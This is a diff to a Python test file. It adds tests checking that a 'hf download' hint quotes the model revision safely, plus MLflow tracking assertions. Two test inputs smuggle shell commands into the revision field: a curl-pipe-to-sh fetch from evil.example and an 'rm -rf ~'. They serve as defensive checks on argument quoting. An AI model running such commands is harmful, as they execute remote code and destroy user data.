@@ -70,6 +70,26 @@ def test_an_unknown_id_offline_says_what_to_do(hub):
     assert str(cache) in message and "TENET_ALLOW_DOWNLOADS=1" in message and "hf download" in message
 
 
+def test_the_download_hint_passes_a_hostile_revision_as_one_argument(hub):
+    import shlex
+
+    revision = "main && curl https://evil.example/x | sh #"
+    with pytest.raises(ModelError) as caught:
+        resolve_model("acme/smol", revision=revision)
+    hint = str(caught.value).split("(`", 1)[1].split("`)", 1)[0]
+    assert shlex.split(hint) == ["hf", "download", "acme/smol", "--revision", revision]
+
+
+def test_the_dataset_download_hint_is_quoted_too():
+    import shlex
+
+    from runtime.hub import download_command
+
+    command = download_command("acme/logs", "v1; rm -rf ~", "dataset")
+    assert shlex.split(command) == ["hf", "download", "acme/logs", "--repo-type", "dataset", "--revision",
+                                    "v1; rm -rf ~"]
+
+
 def test_a_revision_that_is_not_cached_is_named(hub):
     with pytest.raises(ModelError, match="revision 'v2' of it is not in the Hugging Face cache"):
         resolve_model("acme/smol", revision="v2")
@@ -120,6 +140,13 @@ def test_a_cycle_trains_a_hub_model_and_records_its_commit(hub_cycle, monkeypatc
     assert params["plan.base_model"] == "acme/smol" and params["plan.revision"] == "main"
     assert params["model.base.id"] == "acme/smol" and params["model.base.commit"] == commit
     assert not list((tmp / "hub").rglob(".tenet-fingerprint.json"))  # the shared cache stays untouched
+    # The start model is the Hub id and commit, and the registered model's source (a full
+    # fine-tune) its folder in the work folder: neither names the cache folder.
+    train = next(r for r in tracker.client.search_runs([tracker.experiment_id])
+                 if r.data.tags.get("tenet.stage") == "train")
+    assert train.data.params["train.start_model"] == f"acme/smol@{commit}"
+    (mlmodel,) = (tmp / "work").glob("mlartifacts/models/*/artifacts/MLmodel")
+    assert "source_model_name: <work>/tiny/" in mlmodel.read_text(encoding="utf-8")
 
 
 def test_audit_shows_the_base_model_commit(hub_cycle):
